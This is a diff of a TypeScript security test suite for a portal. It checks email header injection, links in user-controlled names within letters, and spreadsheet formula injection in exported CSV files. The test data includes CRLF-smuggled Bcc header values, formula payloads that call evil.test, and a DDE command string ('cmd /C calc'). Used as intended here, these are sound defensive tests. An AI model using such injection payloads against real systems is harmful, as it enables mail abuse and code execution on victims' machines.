@@ -1,5 +1,5 @@
 // Letters, files for spreadsheets, requests of the server to elsewhere.
-import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { readFileSync } from 'node:fs'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
@@ -8,9 +8,12 @@ import { guestFields, solved } from '../../test/human.ts'
 import { talkingProvider } from '../../test/issuer.ts'
 import { among, holds, none, type Cases } from '../case.ts'
 import type { Ground } from '../ground.ts'
-import { login, password, person, register, sid } from '../people.ts'
+import { login, password, register, sid } from '../people.ts'
 import { startPortal, type Portal } from '../portal.ts'
 import { bookBooth, invoiceOf, openTicket } from '../things.ts'
+import { scene } from '../scene.ts'
+import { openStage } from '../stage.ts'
+import { settled, sow } from './sown.ts'
 import { turned } from './i18n.ts'
 
 /** A request of a guest, with the puzzle solved. */
@@ -18,12 +21,10 @@ export async function askAsGuest(portal: Portal, more: Record<string, unknown>, 
   const { challenge } = (await portal.ask('/v1/challenge')).json as { challenge: Parameters<typeof solved>[0] }
   return portal.ask(path, { body: { ...fields, proof: solved(challenge), ...more }, timeoutMs: 30_000 })
 }
-/** The mails to somebody as they would leave, bytes and all. */
-const mailsTo = (portal: Portal, address: string) => { const folder = join(portal.dataDir, 'mail'); return existsSync(folder) ? readdirSync(folder).filter((name) => name.endsWith('.eml')).map((name) => readFileSync(join(folder, name), 'utf8')).filter((mail) => mail.includes(address)) : [] }
 const headsOf = (mail: string) => mail.slice(0, mail.search(/\r?\n\r?\n/)).replace(/\r?\n[ \t]+/g, ' ').split(/\r?\n/)
 
 /** Cells of a CSV, by RFC 4180. */
-function cells(text: string): string[][] {
+export function cells(text: string): string[][] {
   const rows: string[][] = [[]]
   for (const [, quoted, plain, end] of text.replace(/^\ufeff/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
     rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
@@ -33,7 +34,7 @@ function cells(text: string): string[][] {
   return rows.filter((row) => row.some(Boolean))
 }
 const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '=HYPERLINK("https://evil.test","x")', '=cmd|\' /C calc\'!A0', '＝1+1', '＋1', '－1', '＠x', '=IMPORTXML("https://evil.test")', '+cmd|x', '"=1+1', ',=1+1']
-const live = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^[+-]?\d[\d.]*$/.test(cell)
+export const live = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^[+-]?\d[\d.]*$/.test(cell)
 
 /** Files that the team takes out, in both formats: what is in their cells. */
 async function taken(portal: Portal, cookie: string, path: string) {
@@ -52,28 +53,45 @@ async function trap() {
 }
 
 export const letters: Cases<Ground> = {
-  'MAIL-001': { severity: 'H', says: 'No name writes a header of a letter', run: async (ground) => {
-    const portal = await ground.portal(), wrong: string[] = []
-    for (const cut of ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\u000b', '\r\n\r\n']) {
-      const evil = `A${cut}Bcc: x@evil.test${cut}To: y@evil.test`, { email } = person()
-      await register(portal, { email, name: evil, lastName: evil })
-      await portal.ask('/v1/password/reset/request', { body: { email: `${email}${cut}Bcc: x@evil.test` } })
-      const user = await ground.user(portal)
-      await portal.ask('/v1/profile/edit', { cookie: user.cookie, body: { name: evil } })
-      await openTicket(portal, user, { subject: evil, message: evil })
-      await bookBooth(ground, portal, user, { visitorName: evil, companyName: evil })
-      await askAsGuest(portal, { visitorName: evil, companyName: evil, email })
-      await portal.letterTo(user.email, 'orderPlaced')
-      await portal.letterTo(user.email, 'ticketOpened')
-      await portal.letterTo(email, 'verify')
-      const mails = [...mailsTo(portal, user.email), ...mailsTo(portal, email)]
-      holds(mails.length >= 3, `${mails.length} mails`)
-      for (const mail of mails) {
-        const heads = headsOf(mail), named = (name: string) => heads.filter((line) => line.toLowerCase().startsWith(`${name}:`))
-        if (named('to').length !== 1 || named('subject').length !== 1 || named('bcc').length + named('cc').length > 0 || /evil/.test(named('to').join())) wrong.push(`${JSON.stringify(cut)}: ${heads.filter((line) => /^(to|cc|bcc|subject):/i.test(line)).join(' | ').slice(0, 200)}`)
+  'MAIL-001': { severity: 'H', says: 'No field writes a header of a letter, and no line becomes two', run: async () => {
+    const stage = await openStage(), wrong: string[] = [], once = new Set<string>()
+    try {
+      for (const cut of ['\r\n', '\u2028', '\r\n\r\n']) {
+        const fields = await sow(stage, [`A${cut}Bcc: x@evil.test${cut}To: y@evil.test`, `A${cut}Bcc:x`])
+        await settled(stage)
+        const { rows: subjects } = await stage.pool.query<{ subject: string }>(`select subject from letters union all select subject from tickets union all select subject from contact_messages union all select name || last_name from users union all select visitor_name || company_name from orders`)
+        wrong.push(...subjects.filter(({ subject }) => /[\r\n\u2028\u2029]/.test(subject)).map(({ subject }) => `two lines: ${JSON.stringify(subject.slice(0, 60))}`))
+        for (const letter of stage.portal.letters()) {
+          const heads = headsOf(readFileSync(join(stage.portal.dataDir, 'mail', `${letter.id}.eml`), 'utf8')), named = (name: string) => heads.filter((line) => line.toLowerCase().startsWith(`${name}:`))
+          if ((letter.text + letter.subject).includes('Bcc')) once.add(letter.template)
+          if (named('to').length !== 1 || named('subject').length !== 1 || named('bcc').length + named('cc').length > 0 || /evil/.test(named('to').join()) || /[\r\n]/.test(letter.subject)) wrong.push(`${letter.template} ${JSON.stringify(cut)}: ${heads.filter((line) => /^(to|cc|bcc|subject):/i.test(line)).join(' | ').slice(0, 200)}`)
+        }
+        holds(fields > 0, 'no field took it')
+        await stage.restore()
       }
-    }
-    none(wrong, 'letters')
+      none(wrong, 'letters and lines')
+      holds(scene.calls || once.size >= 5, `only the letters ${[...once].join()} have it`)
+      return `in letters ${[...once].join(', ')}`
+    } finally { await stage.close() }
+  } },
+  'MAIL-005': { severity: 'H', says: 'What a stranger is called leads nowhere in a letter to somebody else', run: async () => {
+    const stage = await openStage(), wrong: string[] = []
+    try {
+      const { portal, fair } = stage, cookie = stage.cookieOf('stranger'), before = new Set(portal.letters().map(({ id }) => id))
+      for (const [name, companyName] of [['Win www.evil.test now', 'http://evil.test/a'], ['Call +98 912 000 00 00', 'evil.test/b'], ['evil@evil.test', 'ｅｖｉｌ．ｔｅｓｔ/c']] as const) {
+        among((await portal.ask('/v1/profile/edit', { cookie, body: { name, lastName: 'Rastin', companyName } })).status, [200], name)
+        const asked = await portal.ask('/v1/meetings', { cookie, body: { exhibitorId: fair.otherExhibitor, startsAt: fair.slot, topic: 'Distribution' } })
+        among(asked.status, [201], 'a meeting')
+        await settled(stage)
+        await portal.ask(`/v1/meetings/${(asked.json['meeting'] as { id: string }).id}/cancel`, { method: 'POST', cookie, body: {} })
+        await settled(stage)
+      }
+      const letters = portal.letters().filter(({ id, to }) => !before.has(id) && to === 'jonas@ghorfeh.example')
+      for (const { template, subject, text, html } of letters) if (/evil|912 000|ｅｖｉｌ/i.test(subject + text + html)) wrong.push(`${template}: ${subject} ${/.{30}evil.{10}/is.exec(text)?.[0] ?? ''}`)
+      none(wrong, 'letters')
+      holds(letters.length >= 3, `${letters.length} letters came`)
+      return `${letters.length} letters`
+    } finally { await stage.close() }
   } },
   'MAIL-003': { severity: 'M', says: 'Every letter has two parts, its direction and links to the portal alone', run: async (ground) => {
     const portal = await ground.portal(), wrong: string[] = []
